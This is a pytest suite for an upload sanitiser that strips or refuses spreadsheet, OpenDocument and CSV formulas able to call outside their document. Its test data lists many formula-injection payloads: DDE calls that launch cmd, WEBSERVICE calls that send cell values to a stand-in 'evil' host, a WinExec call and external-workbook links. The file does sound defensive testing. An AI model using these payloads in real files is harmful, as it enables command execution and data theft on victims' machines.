"""A formula stays when it only calculates with its own document: in workbooks, in OpenDocument, in tables of text."""

import time

import pytest

from files.office_files import what_was_taken_out
from files.standalone.office_cleaning.formulas import calls_out, may_call_out
from tests.files.office import open_document, parts_of, workbook
from tests.files.uploading import refusal_of, take


@pytest.mark.parametrize(
    "formula",
    [
        "cmd|'/C calc'!A0", "MSEXCEL|'\\..\\cmd.exe'!''", 'WEBSERVICE("http://evil/"&amp;A1)', '_xlfn.IMAGE("http://evil/x")',
        'CALL("Kernel32","WinExec","JFJ","calc",0)', 'RTD("evil",,"x")', "'\\\\evil\\share\\[x.xlsx]Un'!A1", "'http://evil/[x.xlsx]Un'!A1",
        'HYPERLINK("file://evil/x","Voir")', 'IF(1,DDE("soffice","x","y"),0)',
        "cmd|'/c echo ''evil'' &amp; calc'!A0", "'cmd'|'/c evil'!A0", "[http://evil/b.xlsx]S!A1", "[1]Un!A1", "[1]!evil",
        "evil.xlsm!Macro1()", "evil.xlsm!Name", "Ailleurs!A1", "'Un [evil]'!A1", 'COM.MICROSOFT.WEBSERVICE("http://evil/"&amp;A1)',
        '_xlfn.WEBSERVICE("http://evil/")', 'HYPERLINK("fi"&amp;"le://evil","x")', "HYPERLINK(A1)", 'HYPERLINK("#[http://evil/x]Un!A1")',
        'INDIRECT("\\\\evil\\s\\[x.xlsx]Un!A1")', "MAP(A1:A2,_xleta.WEBSERVICE)", "MAP(A1:A2,WEBSERVICE)", "EVIL(A1)",
        'CUBEVALUE("evil","x")', "_xll.EVIL(1)", "SUM(A1)+{1,2}+RTD (A1)",
    ],
)  # fmt: skip
def test_a_formula_that_reaches_out_becomes_its_last_value(formula: str) -> None:
    cells = f'<c r="A1"><f>{formula}</f><v>42</v></c><c r="B1"><f>SUM(A1:A2)&amp;"a|b!"</f><v>7</v></c>'
    accepted = take(workbook(cells).written())
    sheet = parts_of(accepted.data)["xl/worksheets/sheet1.xml"]
    assert b"<v>42</v>" in sheet
    assert sheet.count(b"<f>") == 1
    assert b"SUM(A1:A2)" in sheet
    assert "formules" in what_was_taken_out(accepted.removed)


def test_a_shared_formula_goes_with_all_that_repeat_it() -> None:
    cells = '<c r="A1"><f t="shared" ref="A1:B1" si="0">WEBSERVICE("http://evil/")</f><v>1</v></c>'
    cells += '<c r="B1"><f t="shared" si="0"/><v>2</v></c>'
    sheet = parts_of(take(workbook(cells).written()).data)["xl/worksheets/sheet1.xml"]
    assert b"<f" not in sheet
    assert b"<v>2</v>" in sheet


@pytest.mark.parametrize(
    "formula",
    [
        "Un!A1+'Un'!$B$2", "SUM(Un:Un!A1)", "Tableau1[[#This Row],[Prix]]*2", "SUM(T[Prix '[CAD']])", "T[@Prix]", "T[l''an]",
        "#REF!", "Un!#REF!", "_xlfn._xlws.SORT(A1:A2)", "_xlfn.LET(_xlpm.x,1,_xlpm.x+2)", "SUM({1,2;3,4})",
        "IF(A1=\"|\",\"!\",Total)",
        'HYPERLINK("https://exemple.ca/a","Voir")', 'HYPERLINK("mailto:x@exemple.ca")', 'HYPERLINK("#Un!A1:B2","Voir")',
        "_xlfn.BYROW(A1:B2,_xleta.SUM)", "VLOOKUP(A1,Un!$A:$B,2,FALSE)",
    ],
)  # fmt: skip
def test_a_formula_that_calculates_stays(formula: str) -> None:
    accepted = take(workbook(f'<c r="A1"><f>{formula}</f><v>42</v></c>').written())
    assert accepted.removed == ()
    assert b"<f>" in parts_of(accepted.data)["xl/worksheets/sheet1.xml"]


@pytest.mark.parametrize(
    "after",
    [
        '<conditionalFormatting><cfRule><cfvo type="formula" val="{}"/></cfRule></conditionalFormatting>',
        '<controls><formControlPr fmlaLink="{}"/></controls>', '<dataValidations><formula1>{}</formula1></dataValidations>',
        '<xm:f xmlns:xm="urn:xm">{}</xm:f>', '<sp textlink="{}"/>', '<calculatedItem formula="{}"/>', "<FmlaRange>{}</FmlaRange>",
    ],
)  # fmt: skip
def test_a_formula_beside_the_cells_is_judged_too(after: str) -> None:
    sheet = parts_of(take(workbook(after=after.format("[1]evil!A1")).written()).data)["xl/worksheets/sheet1.xml"]
    assert b"evil" not in sheet
    assert take(workbook(after=after.format("Un!A1")).written()).removed == ()


@pytest.mark.parametrize(
    "formula",
    [
        'of:=COM.MICROSOFT.WEBSERVICE("http://evil/"&amp;[.A1])', 'of:=COM.MICROSOFT.FILTERXML("evil";"x")',
        'of:=ORG.LIBREOFFICE.WEBSERVICE("http://evil/")', "of:=INDIRECT('file:///evil')", "of:=['file:///evil.ods'#$Un.A1]",
        "of:=[file:///evil.ods#$Un.A1]", "msoxl:=cmd|'/c echo ''evil'' &amp; calc'!A0", "msoxl:=[http://evil/x]Un!A1",
        'of:=DDE("evil";"x";"y")', 'of:=HYPERLINK("fi"&amp;"le://evil")',
    ],
)  # fmt: skip
@pytest.mark.parametrize("name", ["table:formula", "text:formula", "table:condition", "table:expression", "calcext:value"])
def test_a_formula_of_an_opendocument_that_reaches_out_becomes_its_last_value(formula: str, name: str) -> None:
    space = 'xmlns:calcext="urn:org:documentfoundation:names:experimental:calc:xmlns:calcext:1.0"'
    cell = f"""<table:table-cell {space} office:value="42" {name}="{formula.replace('"', "&quot;")}"/>"""
    accepted = take(open_document(cell, kind="spreadsheet"))
    content = parts_of(accepted.data)["content.xml"]
    assert b"evil" not in content
    assert b'office:value="42"' in content
    assert accepted.removed == ("formulas",)


@pytest.mark.parametrize(
    "formula",
    [
        "of:=SUM([.A1:.A2])", "of:=[$Un.A1]+['L''autre'.B2]", "of:=SUM({1;2|3;4})", "cell-content()&gt;5",
        "is-true-formula([.A1]&gt;3)", "of:cell-content-is-in-list(&quot;a&quot;;&quot;b&quot;)", "?f0 *logwidth/21600",
        "if($0 -1,sqrt(2),sin(pi))", "of:=[.#REF!1]", "value()&gt;=0", "ooow:page==1",
    ],
)  # fmt: skip
def test_a_formula_of_an_opendocument_that_calculates_stays(formula: str) -> None:
    accepted = take(open_document(f'<table:table-cell table:formula="{formula}"/>', kind="spreadsheet"))
    assert accepted.removed == ()
    assert b"table:formula" in parts_of(accepted.data)["content.xml"]


@pytest.mark.parametrize(
    "cell",
    [
        "=cmd|'/C calc'!A0", "\"-2+3+cmd|' /C calc'!A0\"", "@SUM(1)*cmd|'/C calc'!A0", '"=WEBSERVICE(""http://evil/"")"',
        "=cmd|'/c echo ''hi'' & calc'!A0", "='cmd'|'/c calc'!A0", "+'cmd'|'/c calc'!A0", "=+cmd|'/c calc'!A0",
        '"+WEBSERVICE(""http://evil/?""&A1)"', '"@WEBSERVICE(""http://evil/?""&A1)"', '"-WEBSERVICE(""http://evil/?""&A1)"',
        "＝cmd|'/c calc'!A0", '"＋WEBSERVICE(""http://evil/"")"', "=CONCAT(A1,WEBSERVICE(A2))",
        "=SERVICEWEB(A1)", "+SERVICEWEB(A1)",
        "+[http://evil/b.xlsx]S!A1", "-'\\\\evil\\[x.xlsx]S'!A1", "+evil.xlsm!Macro1()", "=evil!x", '"+EVIL(""x"")"', "@EVIL(A1)",
        '"=MAP(A1:A2;WEBSERVICE)"', '"=1+\nWEBSERVICE(A1)"',
        '"=LIEN_HYPERTEXTE(""file://evil"")"', "-COM.MICROSOFT.WEBSERVICE(A1)",
    ],
)  # fmt: skip
def test_a_table_of_text_that_starts_a_program_is_refused(cell: str) -> None:
    assert "une formule" in refusal_of(f"mois;visites\n1;{cell}\n".encode())


def test_a_table_of_text_may_name_what_parts_its_cells() -> None:
    assert "une formule" in refusal_of(b"sep=~\nmois~visites\n1~=EVIL(A1)\n")


@pytest.mark.parametrize(
    "line",
    [
        "=SUM(A1:A2);-3;+4", "- une demande (request (x)) | autre !", "@nom | oui !", "a|b!;-c", "- patient(s)",
        "- délai (jours)", "- [oui/non] !",
        "=> voir la note (2) !", "=====", "= oui", "-l'eau; -d'ici !", "=SOMME(A1:A2)", "=x | y", "-12 %; +5 (a)",
    ],
)  # fmt: skip
def test_other_formulas_and_dashes_are_only_text(line: str) -> None:
    assert take(f"mois;visites\n{line}\n".encode()).data


def test_a_long_formula_is_judged_at_once() -> None:
    started = time.monotonic()
    for formula in ("{" + "1" * 16_000, "a" * 16_000, "a " * 8_000, "['" * 8_000, "''" * 8_000, "a|''" * 4_000, "[" * 16_000):
        calls_out(formula)
        may_call_out(f"={formula}")
        may_call_out(f"+{formula}")
    assert time.monotonic() - started < 5
